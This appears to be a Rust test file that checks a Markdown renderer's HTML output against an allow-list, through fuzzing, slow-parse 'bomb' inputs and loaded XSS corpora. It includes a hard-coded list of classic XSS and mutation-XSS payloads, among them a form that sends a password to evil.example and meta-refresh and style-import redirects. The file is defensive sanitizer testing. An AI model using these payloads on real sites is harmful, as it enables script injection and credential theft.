//! What comes out is held against an allow-list by a reader of its own, for many things that went in.

use std::io::Read as _;
use std::path::{Path, PathBuf};
use std::time::Duration;

use insightdesk_markdown::{ATTRIBUTES, ELEMENTS, URL_SCHEMES, document, render};
use proptest::prelude::*;
use serde_json::Value;

/// Which kind of text it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Message,
    /// Its headings have anchors, and it leads to pages of the same site.
    Document,
}

/// Reads every tag of the output, strictly as a serializer writes it, and names what should not be there.
fn fault(html: &str, kind: Kind) -> Option<String> {
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let tag = &rest[start + 1..];
        let mut end = None;
        let mut quoted = false;
        for (index, c) in tag.char_indices() {
            match c {
                '"' => quoted = !quoted,
                '>' if !quoted => {
                    end = Some(index);
                    break;
                }
                _ => {}
            }
        }
        let Some(end) = end else {
            return Some(format!("an open tag: {tag}"));
        };
        let inside = &tag[..end];
        rest = &tag[end + 1..];
        if let Some(name) = inside.strip_prefix('/') {
            if !ELEMENTS.contains(&name) {
                return Some(format!("the end of {name}"));
            }
            continue;
        }
        let (name, attributes) = inside.split_once(' ').unwrap_or((inside, ""));
        if !ELEMENTS.contains(&name) {
            return Some(format!("the element {name}"));
        }
        if let Some(fault) = attribute_fault(name, attributes, kind) {
            return Some(fault);
        }
    }
    None
}

fn attribute_fault(element: &str, mut text: &str, kind: Kind) -> Option<String> {
    while !text.is_empty() {
        let Some((name, after)) = text.split_once("=\"") else {
            return Some(format!("a strange attribute: {text}"));
        };
        let Some((value, after)) = after.split_once('"') else {
            return Some(format!("an open attribute: {text}"));
        };
        text = after.trim_start();
        let listed = ATTRIBUTES
            .iter()
            .any(|(e, names)| *e == element && names.contains(&name));
        let fixed = matches!(
            (element, name, value),
            ("a", "rel", "noopener noreferrer nofollow") | ("input", "type", "checkbox")
        );
        let is_anchor = kind == Kind::Document
            && element.len() == 2
            && element.starts_with('h')
            && name == "id"
            && value
                .strip_prefix("s-")
                .is_some_and(|name| name.chars().all(|c| c.is_alphanumeric() || c == '-'));
        if is_anchor {
            continue;
        }
        if !listed && !fixed {
            return Some(format!("{element} has {name}=\"{value}\""));
        }
        if matches!(name, "href" | "src") {
            let scheme = value
                .split_once(':')
                .map(|(scheme, _)| scheme.to_ascii_lowercase());
            let is_local =
                value.starts_with('#') || value.starts_with('/') && !value[1..].starts_with(['/', '\\']);
            if kind == Kind::Document && is_local {
                continue;
            }
            if !scheme.is_some_and(|scheme| URL_SCHEMES.contains(&scheme.as_str())) {
                return Some(format!("{element} leads to {value}"));
            }
        }
    }
    None
}

#[track_caller]
fn assert_safe(payload: &str) {
    // As it is, and in the places where Markdown treats text in its own ways.
    for markdown in [
        payload.to_owned(),
        format!("> {payload}"),
        format!("[a]({payload})"),
        format!("![{payload}](https://example.com/ \"{payload}\")"),
        format!("|a|\n|-|\n|{payload}|"),
        format!("```{payload}\n{payload}\n```"),
        format!("<{payload}>"),
        format!("# {payload}"),
    ] {
        let html = render(&markdown);
        assert_eq!(fault(&html, Kind::Message), None, "{markdown:?} gave {html}");
        let html = document(&markdown).html;
        assert_eq!(fault(&html, Kind::Document), None, "{markdown:?} gave {html}");
    }
}

#[test]
fn the_classics_are_harmless() {
    for payload in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<form action=https://evil.example><input name=password></form>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=https://evil.example>",
        "<style>@import 'https://evil.example'</style>",
        "<p style=\"position:fixed;inset:0\" class=modal id=root>x</p>",
        "\"><script>alert(1)</script>",
        "javascript:alert(1)",
        "<https://example.com/\"onmouseover=\"alert(1)>",
        "[a](https://example.com/\" onmouseover=\"alert(1))",
        "[a](<https://example.com/ \"onclick=alert(1)>)",
        "![a\" onerror=\"alert(1)](https://example.com/x)",
        "[a](https://example.com 'x\" onclick=\"alert(1)')",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "- [x](javascript:alert(1)) <input type=submit>",
    ] {
        assert_safe(payload);
    }
}

proptest! {
    #[test]
    fn whatever_goes_in_what_comes_out_is_allowed(text in any::<String>()) {
        let html = render(&text);
        prop_assert_eq!(fault(&html, Kind::Message), None, "{}", html);
    }

    #[test]
    fn what_looks_like_markup_comes_out_allowed(
        pieces in proptest::collection::vec(
            prop::sample::select(vec![
                "<", ">", "\"", "'", "`", "*", "_", "[", "]", "(", ")", "!", "\\", "\n", " ", "|", "-", "&", ";", "#",
                "~", ":", "/", "<script>", "</", "<!--", "-->", "<svg", "<style>", "onload=", "javascript:", "https://",
                "&#x6a;", "&lt;", "\0", "=", "a", "\u{202e}", "<a href=", "<img src=", "[a]: ", "- [ ] ", "> ", "```",
            ]),
            0..60,
        )
    ) {
        let text = pieces.concat();
        let html = render(&text);
        prop_assert_eq!(fault(&html, Kind::Message), None, "{} gave {}", text, html);
    }
}

/// Shapes that make a careless parser slow.
fn bombs(bytes: usize) -> Vec<String> {
    let fill = |unit: &str| unit.repeat(bytes / unit.len());
    let ticks = (1..bytes.isqrt())
        .map(|length| "`".repeat(length) + " ")
        .collect();
    let stairs = (0..bytes.isqrt())
        .map(|step| format!("{}- a\n", " ".repeat(step)))
        .collect();
    let wide = bytes / 8;
    let table = format!(
        "|{}\n|{}\n{}",
        "a|".repeat(wide),
        "-|".repeat(wide),
        "|\n".repeat(wide)
    );
    let quoted = format!("{}a\n", ">".repeat(250)).repeat(bytes / 252);
    let emphasis = format!(
        "{}a{}",
        fill("*_").split_at(bytes / 2).0,
        fill("_*").split_at(bytes / 2).0
    );
    let mut bombs: Vec<String> = [
        ">",
        "- ",
        "> - ",
        "1. ",
        "[",
        "![",
        "[a](",
        "[]()",
        "]",
        "*a ",
        "*a_ ",
        "*",
        "**a *a ",
        "a**b",
        "_a __a ",
        "<",
        "<a ",
        "<!--",
        "<?",
        "<!A ",
        "<![CDATA[",
        "&",
        "~~a ~a ",
        "http://a.b/c ",
        "www.a.b",
        "a@b.c ",
        "a@",
        "http://",
        "|a\n|-\n",
        "[a]: b\n",
        "***\n",
        "a\n-\n",
        "# a\n",
        "\\",
        "\n",
        "\t",
        "> a\n\nb\n",
        "[[a]]",
        "[a](b \"",
        "[a](<b",
        "- [ ] a\n",
        "```\n",
        "<div>\n",
        "<svg><math>",
        "a\u{301}",
        "\0",
    ]
    .iter()
    .map(|unit| fill(unit))
    .collect();
    bombs.extend([ticks, stairs, table, quoted, emphasis]);
    bombs
}

#[test]
fn no_shape_of_text_takes_long() {
    let deadline = Duration::from_millis(200);
    for bomb in bombs(64 * 1024) {
        for kind in [Kind::Message, Kind::Document] {
            let started = cpu_time();
            let html = match kind {
                Kind::Message => render(&bomb),
                Kind::Document => document(&bomb).html,
            };
            let took = cpu_time() - started;
            assert_eq!(fault(&html, kind), None);
            assert!(
                took < deadline,
                "{took:?} for {kind:?} {:?}…",
                bomb.chars().take(20).collect::<String>()
            );
        }
    }
}

/// What this thread has used of a processor: the others on the machine do not count.
fn cpu_time() -> Duration {
    let used = rustix::time::clock_gettime(rustix::time::ClockId::ThreadCPUTime);
    Duration::try_from(used).unwrap_or_default()
}

/// Collections of attacks that may lie beside the workspace.
fn collections() -> Option<PathBuf> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/html");
    folder.is_dir().then_some(folder)
}

fn payloads(cases: &Value) -> Vec<String> {
    let cases = cases.as_array().map(Vec::as_slice).unwrap_or_default();
    cases
        .iter()
        .filter_map(|case| case["payload"].as_str())
        .map(str::to_owned)
        .collect()
}

#[test]
fn known_attacks_are_harmless() {
    let Some(folder) = collections() else { return };
    let mut count = 0;
    for file in ["bleach-xss/cases.json", "dompurify-expect/cases.json"] {
        let Ok(text) = std::fs::read_to_string(folder.join(file)) else {
            continue;
        };
        for payload in payloads(&serde_json::from_str(&text).unwrap()) {
            assert_safe(&payload);
            count += 1;
        }
    }
    if let Ok(file) = std::fs::File::open(folder.join("brs-xss-payloads/payloads.jsonl.gz")) {
        let mut lines = String::new();
        flate2::read::GzDecoder::new(file)
            .read_to_string(&mut lines)
            .unwrap();
        for line in lines.lines() {
            let case: Value = serde_json::from_str(line).unwrap();
            assert_safe(case["payload"].as_str().unwrap());
            count += 1;
        }
    }
    for entry in std::fs::read_dir(folder.join("html5lib-tests/tree-construction"))
        .into_iter()
        .flatten()
        .flatten()
    {
        let Ok(text) = std::fs::read_to_string(entry.path()) else {
            continue;
        };
        for case in text.split("#data\n").skip(1) {
            assert_safe(case.split("\n#errors").next().unwrap_or(case));
            count += 1;
        }
    }
    assert!(count > 0, "the collections are there and empty");
}
